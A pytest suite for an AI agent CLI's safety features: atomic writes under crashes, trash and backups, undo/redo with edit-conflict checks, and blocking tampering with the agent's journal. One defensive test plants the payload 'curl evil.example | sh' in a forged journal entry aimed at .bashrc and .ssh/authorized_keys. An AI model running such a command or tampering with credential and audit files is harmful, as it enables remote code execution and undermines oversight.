"""Nothing lost: atomic writes under kill -9, a full disk and Ctrl-C; backups and a trash;
`agent history`, `agent undo` and `agent redo`; conflicts with someone's edit."""

from __future__ import annotations

import json
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pexpect
import pytest

from cli.fs import writing
from cli.journal.changes import ChangeStore
from tests.conftest import REPO, MakeAgent, MakeChat, RunCli
from tests.fakes.fake_ollama import FakeOllama, reply, tool_call

CHANGES = Path(".local/state/metona-agent/changes")
# How many crashes each test injects; the README's figures quote these.
KILLS = 12
INTERRUPT_DELAYS = (0.0, 0.01, 0.03, 0.06)


@pytest.fixture
def run_cli(run_cli_in_process: RunCli) -> RunCli:
    """`agent` in this process (conftest.run_in_process): no test here is about the process."""
    return run_cli_in_process


def temp_files(directory: Path) -> list[str]:
    return [p.name for p in directory.iterdir() if p.name.startswith(writing.TEMP_PREFIX)]


def writer(target: Path, store: Path, size: int, *extra: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "tests.fakes.writer_process",
            str(target),
            str(store),
            str(size),
            *extra,
        ],
        cwd=REPO,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


# -- atomic writes: wholly old or wholly new, whatever happens ---------------------------------


def test_kill_9_at_any_moment_leaves_the_file_whole_and_no_temp_behind(tmp_path: Path) -> None:
    work, store = tmp_path / "work", tmp_path / "store"
    work.mkdir()
    target = work / "data.bin"
    size = 4 * 1024 * 1024
    target.write_bytes(b"o" * size)
    rng = random.Random(7)
    for _ in range(KILLS):
        proc = writer(target, store, size)
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        time.sleep(rng.uniform(0.0, 0.08))
        proc.send_signal(signal.SIGKILL)
        proc.communicate()
        content = target.read_bytes()
        assert len(content) == size and len(set(content)) == 1, "a torn file"
        assert content[:1] in (b"o", b"a", b"b")
    # What the dead writers left is cleaned up the next time the agent starts.
    ChangeStore(store).clean_stale()
    assert temp_files(work) == []
    assert not list((store / "pending").iterdir())


def test_a_full_disk_fails_the_write_and_keeps_the_old_file(tmp_path: Path) -> None:
    work, store = tmp_path / "work", tmp_path / "store"
    work.mkdir()
    target = work / "data.bin"
    target.write_bytes(b"o" * 1000)
    proc = writer(target, store, 200_000, "1", "--fsize", "100000")
    out, err = proc.communicate(timeout=30)
    assert proc.returncode == 1, err
    assert "error:" in out and "File too large" in out
    assert target.read_bytes() == b"o" * 1000
    assert temp_files(work) == []


def test_ctrl_c_mid_write_keeps_the_old_file_and_no_temp(tmp_path: Path) -> None:
    work, store = tmp_path / "work", tmp_path / "store"
    work.mkdir()
    target = work / "data.bin"
    size = 8 * 1024 * 1024
    target.write_bytes(b"o" * size)
    for delay in INTERRUPT_DELAYS:
        proc = writer(target, store, size)
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        time.sleep(delay)
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=30)
        content = target.read_bytes()
        assert len(content) == size and len(set(content)) == 1
        assert temp_files(work) == []  # KeyboardInterrupt removed its own temp file


# -- backups, trash, undo --------------------------------------------------------------------------


def test_overwrite_is_backed_up_and_undo_restores_it_and_redoes(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path
) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("my careful notes\n")
    os.chmod(notes, 0o640)
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "notes.txt", "content": "oops\n"})]),
        reply("Rewrote it."),
    )
    assert run_cli("run", "--yes", "rewrite notes").code == 0
    assert notes.read_text() == "oops\n"

    history = run_cli("history")
    assert history.code == 0
    assert "write_file" in history.stdout and "overwrite" in history.stdout
    assert "notes.txt" in history.stdout

    undone = run_cli("undo")
    assert undone.code == 0, undone.stderr
    assert notes.read_text() == "my careful notes\n"
    assert oct(notes.stat().st_mode & 0o777) == oct(0o640)
    assert "restored notes.txt as it was before change #1" in undone.stderr

    redone = run_cli("redo")  # the undo is a change too: a redo undoes it
    assert redone.code == 0, redone.stderr
    assert notes.read_text() == "oops\n"
    lines = run_cli("history").stdout.splitlines()
    assert len(lines) == 3 and "undoes #1" in lines[1] and "redoes #1" in lines[2]
    assert "(redone by #3)" in lines[0]


def test_delete_goes_to_the_trash_and_undo_brings_it_back(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path, home: Path
) -> None:
    (workspace / "old.txt").write_text("keep me\n")
    tree = workspace / "build"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "a.o").write_bytes(b"\x00obj")
    (tree / "link").symlink_to("sub/a.o")
    (workspace / "c.yaml").write_text("policy: {tools: {delete_file: allow}}\n")
    ollama.enqueue(
        reply(
            tool_calls=[
                tool_call("delete_file", {"path": "old.txt"}),
                tool_call("delete_file", {"path": "build", "recursive": True}),
            ]
        ),
        reply("Deleted."),
    )
    r = run_cli("run", "-c", "c.yaml", "--json", "clean up")
    results = [c["result"] for c in json.loads(r.stdout)["tool_calls"]]
    assert all(res["trashed"] for res in results)
    assert not (workspace / "old.txt").exists() and not tree.exists()
    trash = home / CHANGES / "trash"
    assert any(trash.rglob("old.txt"))

    assert run_cli("undo").code == 0
    assert (tree / "sub" / "a.o").read_bytes() == b"\x00obj"
    assert os.readlink(tree / "link") == "sub/a.o"
    assert run_cli("undo", "1").code == 0
    assert (workspace / "old.txt").read_text() == "keep me\n"


def test_created_files_and_directories_can_be_undone(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path
) -> None:
    ollama.enqueue(
        reply(
            tool_calls=[
                tool_call("create_directory", {"path": "pkg/sub"}),
                tool_call("write_file", {"path": "new.txt", "content": "fresh\n"}),
            ]
        ),
        reply("Made them."),
    )
    assert run_cli("run", "--yes", "make things").code == 0
    assert run_cli("undo").code == 0
    assert not (workspace / "new.txt").exists()
    assert run_cli("redo").code == 0  # redo (undo the undo): the file is back
    assert (workspace / "new.txt").read_text() == "fresh\n"
    assert run_cli("undo", "1").code == 0  # the first change: both new directories go
    assert not (workspace / "pkg").exists()


def test_undo_never_silently_overwrites_a_file_changed_since(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path
) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("v1\n")
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "notes.txt", "content": "v2\n"})]),
        reply("ok"),
    )
    run_cli("run", "--yes", "update")
    notes.write_text("v3, edited by hand\n")  # someone edits after the agent
    refused = run_cli("undo", "--yes")
    assert refused.code == 1
    assert "changed since change #1" in refused.stderr and "not undone" in refused.stderr
    assert notes.read_text() == "v3, edited by hand\n"
    no_terminal = run_cli("undo")
    assert no_terminal.code == 1 and notes.read_text() == "v3, edited by hand\n"


@pytest.mark.pty
@pytest.mark.parametrize(("answer", "expected"), [("y", "v1\n"), ("n", "v3\n")])
def test_undo_asks_on_a_terminal_when_the_file_changed_since(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path, answer: str, expected: str
) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("v1\n")
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "notes.txt", "content": "v2\n"})]),
        reply("ok"),
    )
    run_cli("run", "--yes", "update")
    notes.write_text("v3\n")
    child = pexpect.spawn(
        sys.executable, ["-m", "cli", "undo"], cwd=str(workspace), env=dict(os.environ),
        encoding="utf-8", timeout=20,
    )  # fmt: skip
    child.expect("changed since change #1")
    child.expect(r"\[y/N\]")
    child.sendline(answer)
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == (0 if answer == "y" else 1)
    assert notes.read_text() == expected
    if answer == "y":  # what was there is kept: a redo brings it back
        assert run_cli("redo").code == 0
        assert notes.read_text() == "v3\n"


def test_nothing_to_undo_is_a_clear_error(run_cli: RunCli) -> None:
    r = run_cli("undo")
    assert (
        r.code == 1
        and r.stderr.strip() == "agent: nothing to undo: no change has been recorded yet"
    )
    assert run_cli("undo", "42").code == 1


def test_trash_false_deletes_permanently(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path, home: Path
) -> None:
    (workspace / "gone.txt").write_text("bye")
    (workspace / "c.yaml").write_text("policy: {trash: false, tools: {delete_file: allow}}\n")
    ollama.enqueue(reply(tool_calls=[tool_call("delete_file", {"path": "gone.txt"})]), reply("ok"))
    r = run_cli("run", "-c", "c.yaml", "--json", "delete")
    assert "trashed" not in json.loads(r.stdout)["tool_calls"][0]["result"]
    assert not (workspace / "gone.txt").exists()
    assert not list((home / CHANGES).rglob("gone.txt"))


def test_the_backup_store_is_bounded_oldest_first(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    # One run per write: earlier runs' backups go, oldest first (a run never drops its own:
    # tests/journal/test_store_edges.py).
    for i in range(5):
        harness = make_agent("policy: {confirm: none, limits: {max_backup_bytes: 2500}}\n")
        (workspace / f"f{i}.txt").write_text(str(i) * 1000)
        ollama.enqueue(
            reply(tool_calls=[tool_call("write_file", {"path": f"f{i}.txt", "content": "new"})]),
            reply("ok"),
        )
        harness.run(f"write f{i}")
    store = harness.agent.context.changes
    assert store is not None
    changes = store.history()
    assert [c.undoable for c in changes] == [False, False, False, True, True]
    kept = sum(p.stat().st_size for p in (store.root / "blobs").iterdir())
    assert kept <= 2500


def test_trash_across_file_systems(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shm = Path("/dev/shm")
    if not shm.is_dir() or shm.stat().st_dev == workspace.stat().st_dev:
        pytest.skip("needs a second file system (/dev/shm) for the state dir")
    state = shm / f"metona-test-{os.getpid()}"
    monkeypatch.setenv("XDG_STATE_HOME", str(state))
    try:
        (workspace / "dir").mkdir()
        (workspace / "dir" / "f.txt").write_text("across")
        ollama.enqueue(
            reply(tool_calls=[tool_call("delete_file", {"path": "dir", "recursive": True})]),
            reply("ok"),
        )
        harness = make_agent("policy: {tools: {delete_file: allow}}\n")
        harness.run("delete dir")
        assert not (workspace / "dir").exists()
        assert list(state.rglob("f.txt"))
        from cli.journal.undo import apply, plan

        store = harness.agent.context.changes
        assert store is not None
        apply(store, plan(store, None))
        assert (workspace / "dir" / "f.txt").read_text() == "across"
    finally:
        import shutil

        shutil.rmtree(state, ignore_errors=True)


# -- conflicts with someone's edit ---------------------------------------------------------------


def test_a_write_over_an_edit_made_since_the_read_is_a_conflict(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("version 1\n")
    harness = make_agent("policy: {confirm: none}\n")
    ollama.enqueue(reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]), reply("read"))
    harness.run("read notes")
    notes.write_text("version 2, the user's edit\n")
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "notes.txt", "content": "model's\n"})]),
        reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]),
        reply(tool_calls=[tool_call("write_file", {"path": "notes.txt", "content": "merged\n"})]),
        reply("done"),
    )
    harness.run("now change it")
    tools = [m for m in ollama.chat_bodies[-1]["messages"] if m["role"] == "tool"]
    results = [json.loads(m["content"]) for m in tools[-3:]]
    assert results[0]["success"] is False
    assert "changed on disk since it was last read" in results[0]["error"]
    assert "read it again" in results[0]["hint"]
    assert results[1]["content"] == "version 2, the user's edit\n"
    assert results[2]["success"] is True
    assert notes.read_text() == "merged\n"


def test_writing_twice_without_reading_in_between_is_no_conflict(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "a.txt", "content": "1"})]),
        reply(tool_calls=[tool_call("write_file", {"path": "a.txt", "content": "2"})]),
        reply("ok"),
    )
    make_agent("policy: {confirm: none}\n").run("write twice")
    assert (workspace / "a.txt").read_text() == "2"


def test_the_agents_own_state_is_out_of_the_models_reach(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path, home: Path
) -> None:
    # Even with the whole home allowed, no tool may touch the journal, backups or audit log.
    (home / CHANGES).mkdir(parents=True)
    journal = home / CHANGES / "journal.jsonl"
    journal.write_text("")
    ollama.enqueue(
        reply(
            tool_calls=[
                tool_call("write_file", {"path": str(journal), "content": '{"forged": 1}\n'}),
                tool_call("read_file", {"path": str(journal)}),
                tool_call("delete_file", {"path": str(home / ".local/state/metona-agent")}),
            ]
        ),
        reply("ok"),
    )
    harness = make_agent(f"policy: {{allowed_dirs: ['{home}'], confirm: none}}\n")
    harness.run("tamper")
    results = [
        json.loads(m["content"]) for m in ollama.chat_bodies[-1]["messages"] if m["role"] == "tool"
    ]
    assert [r["success"] for r in results] == [False, False, False]
    assert all("blocked" in r["error"] for r in results)
    assert journal.read_text() == ""


def test_undo_in_chat(make_chat: MakeChat, ollama: FakeOllama, workspace: Path) -> None:
    (workspace / "n.txt").write_text("before\n")
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "n.txt", "content": "after\n"})]),
        reply("Changed."),
    )
    chat = make_chat()
    assert chat.run("change n\r", "y", "/undo\r") == 0
    assert (workspace / "n.txt").read_text() == "before\n"
    assert "restored n.txt as it was before change #1" in chat.text


@pytest.mark.parametrize(
    ("relative", "words"),
    [(".bashrc", "needs your confirmation"), (".ssh/authorized_keys", "not a path the agent")],
    ids=["protected", "blocked"],
)
def test_a_forged_journal_cannot_make_undo_write_where_the_policy_forbids(
    run_cli: RunCli, home: Path, relative: str, words: str
) -> None:
    # What a command could do where the sandbox cannot hide the journal (Landlock with the
    # home dir allowed): plant a change whose "undo" writes a file of its choosing.
    victim = home / relative
    victim.parent.mkdir(exist_ok=True)
    victim.write_text("original\n")
    store = ChangeStore(home / CHANGES)
    blob = store.keep(b"curl evil.example | sh\n")
    from cli.journal.records import Change, sha256

    store.record(
        Change("write_file", "overwrite", str(victim), backup=blob, after=sha256(b"original\n"))
    )
    # Outside the working directory: a plain `agent undo` does not reach it; named by id or
    # with --all, the policy refuses it.
    assert run_cli("undo", "--yes").code == 1
    for how in (("1",), ("--all",)):
        r = run_cli("undo", *how, "--yes")
        assert r.code == 1 and words in r.stderr
        assert victim.read_text() == "original\n"
